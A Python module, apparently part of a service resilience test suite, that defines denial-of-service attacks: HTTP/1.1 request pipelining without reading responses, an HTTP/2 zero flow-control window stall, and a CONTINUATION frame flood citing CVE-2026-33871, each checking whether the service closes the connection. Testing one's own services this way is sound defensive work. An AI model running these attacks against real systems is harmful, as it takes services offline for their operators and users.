"""Attacks by anyone who can open a connection."""

import collections
import time

import wire
from attack import Attack

RECEIVE_BUFFER = 4096


class PipelinedContract(Attack):
    """Asks for a large response again and again on the same connections, and reads none."""

    name = "pipelined-contract"
    path = "/q/openapi"
    connections = 6
    requests = 40_000

    def run(self, service, end):
        connections = [wire.connect(service, receive_buffer=RECEIVE_BUFFER) for _ in range(self.connections)]
        taken = wire.push(connections, wire.head("GET", self.path) * self.requests, end)
        return {f"{taken // 1024} KiB taken": 1}


class PipelinedNotFound(PipelinedContract):
    """The same with many connections and the smallest response."""

    name = "pipelined-not-found"
    path = "/nothing"
    connections = 100
    requests = 2_000


class Http2WithoutWindow(Attack):
    """Speaks HTTP/2 without TLS, and lets the service send nothing of the responses that it asks for."""

    name = "http2-window-0"
    connections = 4
    streams = 250
    expected = ("ended",)

    def run(self, service, end):
        requests = b"".join(
            wire.frame(wire.HEADERS, wire.END_STREAM | wire.END_HEADERS, 2 * n + 1, wire.header_block("/q/openapi"))
            for n in range(self.streams))
        data = wire.PREFACE + wire.window(0) + requests
        open_connections = [(wire.connect(service), data) for _ in range(self.connections)]
        seen = collections.Counter(outcome(connection, data) for connection, data in open_connections)
        time.sleep(max(0.0, min(5.0, end - time.monotonic())))
        return seen


class ContinuationFlood(Attack):
    """Begins headers in HTTP/2 without TLS, and continues them without end (CVE-2026-33871)."""

    name = "http2-continuation"
    seconds = 10.0
    expected = ("ended",)

    def run(self, service, end):
        begin = wire.PREFACE + wire.window(65535) + wire.frame(wire.HEADERS, 0, 1, wire.header_block("/q/openapi"))
        flood = wire.frame(wire.CONTINUATION, 0, 1) * 100_000
        seen = collections.Counter()
        while time.monotonic() < end:
            seen[outcome(wire.connect(service), begin + flood * 10)] += 1
        return seen


def outcome(connection, data):
    """Whether the service ends a connection that sends this data instead of taking it all."""
    try:
        connection.sendall(data)
        while received := connection.recv(65536):
            if b"HTTP/1.1 200" in received:
                return "served"
        return "ended"
    except TimeoutError:
        return "taken"
    except OSError:
        return "ended"
    finally:
        connection.close()


ATTACKS = (PipelinedContract, PipelinedNotFound, Http2WithoutWindow, ContinuationFlood)
